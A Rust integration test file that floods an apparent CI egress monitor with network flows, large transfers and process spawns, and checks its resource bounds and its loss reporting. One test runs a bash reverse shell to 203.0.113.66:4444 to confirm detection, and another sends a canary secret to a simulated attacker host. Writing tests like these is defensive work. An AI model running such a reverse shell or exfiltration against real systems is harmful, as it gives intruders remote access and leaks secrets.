//! ATTACKS.md, S5 and H7, at the scale of their rows: 70 000 flows, a million processes, 5 GiB. What is bounded holds, what
//! is lost is told, the hooks return, and the job's own calls go on.

mod life;

use anyhow::{Context, Result, ensure};
use life::{Gate, assert_gapless, assert_nothing_left, call, detections, network};
use portcullis_common::event::{DetectionType, EventKind, Verdict};
use portcullis_common::policy::LockdownDetection;
use portcullis_tests::job::StepKind;
use portcullis_tests::{JobOutcome, World};
use std::fs;
use std::path::Path;
use std::time::Duration;

/// Allows what the flood of allowed flows needs, too.
const POLICY: &str = "
name: flooded
egress-policy: block
allowed-endpoints:
  - ok.test:443
  - udp://198.51.100.10:*
attach:
  - repository: octo/hello
";

/// What the monitor may take, in KiB; a debug build takes more than what is delivered.
const MEMORY_KIB: u64 = 250 * 1024;

/// What a job's events may take on disk: `record::event_log::MAX_BYTES`, and the report.
const DISK_BYTES: u64 = (256 + 16) * 1024 * 1024;

/// A job that compiles the flood and runs it with each of these arguments, while somebody measures the monitor.
fn flood(arguments: &[&str], patience: Duration) -> Result<(Gate, portcullis_tests::JobResult)> {
    let gate = Gate::up(World::builder().build()?, &[("flooded", POLICY)])?;
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("inputs/flood.c");
    let copy = gate.world.directory().join("flood.c");
    fs::copy(source, &copy)?;
    let mut script = format!("cc -O2 -o \"$RUNNER_TEMP/flood\" {}\n", copy.display());
    for line in arguments {
        script += "time \"$RUNNER_TEMP/flood\" ";
        script += line;
        script += "\n";
    }
    let job = gate.job(&script).step(&call("ok.test"));
    let running = gate.world.runner(0).begin(&job)?;
    let measured = std::thread::scope(|scope| {
        let (stop, stopped) = std::sync::mpsc::channel::<()>();
        let pid = gate.monitor.pid();
        let most = scope.spawn(move || {
            let mut most = 0;
            // A measurement, not a condition that is waited for.
            while stopped
                .recv_timeout(Duration::from_millis(100))
                .is_err_and(|error| error == std::sync::mpsc::RecvTimeoutError::Timeout)
            {
                most = most.max(resident_kib(pid).unwrap_or(0));
            }
            most
        });
        let result = running.wait_within(patience);
        drop(stop);
        (result, most.join())
    });
    let (result, most) = (measured.0?, measured.1.unwrap_or(u64::MAX));
    gate.monitor.wait_until_idle()?;
    ensure!(result.outcome == JobOutcome::Success, "{}\n{}", result.log(), gate.monitor.log());
    ensure!((1..MEMORY_KIB).contains(&most), "the monitor took {most} KiB");
    gate.assert_contained(&result)?;
    let hook = result.step_of_kind(StepKind::CompletedHook).context("no completed hook")?;
    ensure!(hook.duration_ms < 20_000.0, "the hook took {} ms", hook.duration_ms);
    let id = gate.world.job_ids()?.pop().context("no job")?;
    let spool = gate.world.root().join("var/lib/portcullis/spool").join(id);
    let bytes: u64 = fs::read_dir(spool)?
        .flatten()
        .filter_map(|entry| entry.metadata().ok())
        .map(|metadata| metadata.len())
        .sum();
    ensure!(bytes < DISK_BYTES, "the job's record takes {bytes} bytes");
    assert_nothing_left(&gate.world)?;
    Ok((gate, result))
}

fn resident_kib(pid: u32) -> Result<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status"))?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    Ok(line.and_then(|line| line.split_whitespace().next()).context("no VmRSS")?.parse()?)
}

#[test]
fn seventy_thousand_flows_and_five_gibibytes_are_bounded_and_told() -> Result<()> {
    let arguments = [
        "flows 203.0.113.66 70000",
        "flows 198.51.100.10 70000",
        "bytes 203.0.113.66 5",
        "spawn 5000",
    ];
    let (gate, result) = flood(&arguments, Duration::from_mins(5))?;
    ensure!(result.log().contains("flows 70000, refused 70000"), "{}", result.log());
    ensure!(result.log().contains("bytes 89479, refused 89479"), "{}", result.log());
    let events = gate.last_events()?;
    assert_gapless(&events);
    let of = |verdict: Verdict| -> u64 {
        network(&events).filter(|event| event.verdict == verdict).map(|event| event.packets).sum()
    };
    let report = gate.last_report()?;
    let lost: Vec<_> = report
        .posture
        .warnings
        .iter()
        .filter(|text| text.contains("have no event") || text.contains("could not be recorded"))
        .collect();
    println!(
        "{} blocked and {} allowed packets have an event; {lost:#?}",
        of(Verdict::Blocked),
        of(Verdict::Allowed)
    );
    // The flood comes faster than processes can be looked up, so that most of it is only counted; what comes after it is
    // recorded again.
    ensure!(of(Verdict::Blocked) > 1000, "hardly anything of the flood has an event");
    let twin = network(&events)
        .any(|event| event.verdict == Verdict::Allowed && event.name.as_deref() == Some("ok.test"));
    ensure!(twin, "the call after the flood has no event");
    // Each packet has an event, or a warning says how many have none.
    let all = of(Verdict::Blocked) >= 70_000 + 89_479 && of(Verdict::Allowed) >= 70_000;
    ensure!(all || !lost.is_empty(), "losses are not told: {:#?}", report.posture);
    ensure!(report.destinations_left_out > 0, "140 000 destinations fit into a report");
    Ok(())
}

#[test]
#[ignore = "takes ten minutes and more: scripts/soak runs it"]
fn a_million_processes_hold_nobody_up() -> Result<()> {
    let (gate, result) = flood(&["spawn 1000000"], Duration::from_hours(1))?;
    ensure!(result.log().contains("spawn 1000000, refused 0"), "{}", result.log());
    assert_gapless(&gate.last_events()?);
    Ok(())
}

/// A reverse shell among `number` programs that two loops execute meanwhile is found; what had no event is told.
fn detection_in_a_flood(number: u64, patience: Duration) -> Result<String> {
    let audit = "name: watched\negress-policy: audit\nattach:\n  - repository: octo/hello\n";
    let gate = Gate::up(World::builder().build()?, &[("watched", audit)])?;
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("inputs/flood.c");
    let copy = gate.world.directory().join("flood.c");
    fs::copy(source, &copy)?;
    let script = format!(
        "set +e; f=\"$RUNNER_TEMP/flood\"; cc -O2 -o \"$f\" {}\n\
         \"$f\" spawn {each} & a=$!; \"$f\" spawn {each} & b=$!\n\
         sleep 0.5; (exec bash -i >& /dev/tcp/203.0.113.66/4444 0>&1) & s=$!\n\
         wait $a $b; kill -9 $s; true",
        copy.display(),
        each = number / 2,
    );
    let running = gate.world.runner(0).begin(&gate.job(&script))?;
    let result = running.wait_within(patience)?;
    gate.monitor.wait_until_idle()?;
    ensure!(
        result.log().matches(&format!("spawn {}, refused 0", number / 2)).count() == 2,
        "{}",
        result.log()
    );
    let events = gate.last_events()?;
    assert_gapless(&events);
    let found = detections(&events).any(|found| {
        found.detection == DetectionType::Lockdown(LockdownDetection::ReverseShell)
            && found.evidence.contains("203.0.113.66:4444")
    });
    ensure!(found, "{}\n{}", result.log(), gate.monitor.log());
    let recorded: u64 = events
        .iter()
        .map(|event| match &event.kind {
            EventKind::Process(executed) => executed.count,
            _ => 0,
        })
        .sum();
    let report = gate.last_report()?;
    let told = report.posture.warnings.iter().any(|text| text.contains("were lost"));
    let told_of = format!("{recorded} of {number} programs have an event; {:#?}", report.posture);
    ensure!(recorded >= number || told, "{told_of}");
    Ok(told_of)
}

#[test]
fn a_detection_in_a_flood_of_programs_is_found() -> Result<()> {
    println!("{}", detection_in_a_flood(10_000, Duration::from_mins(2))?);
    Ok(())
}

#[test]
#[ignore = "takes ten minutes and more: scripts/soak runs it"]
fn a_detection_in_a_flood_of_a_million_programs_is_found() -> Result<()> {
    println!("{}", detection_in_a_flood(1_000_000, Duration::from_hours(1))?);
    Ok(())
}

/// Without a gate the flood arrives, so that the test above can fail.
#[test]
fn without_a_gate_a_flood_arrives() -> Result<()> {
    let world = World::builder().build()?;
    let canary = portcullis_tests::Canary::generate()?;
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("inputs/flood.c");
    let copy = world.directory().join("flood.c");
    fs::copy(source, &copy)?;
    let script = format!(
        "cc -O2 -o \"$RUNNER_TEMP/flood\" {} && \"$RUNNER_TEMP/flood\" flows 203.0.113.66 1000",
        copy.display()
    );
    let job = portcullis_tests::Job::script(&script).secret("S", canary.as_str());
    let result = world.runner(0).run(&job)?;
    ensure!(world.attacker().saw(&canary)?, "{}", result.log());
    Ok(())
}
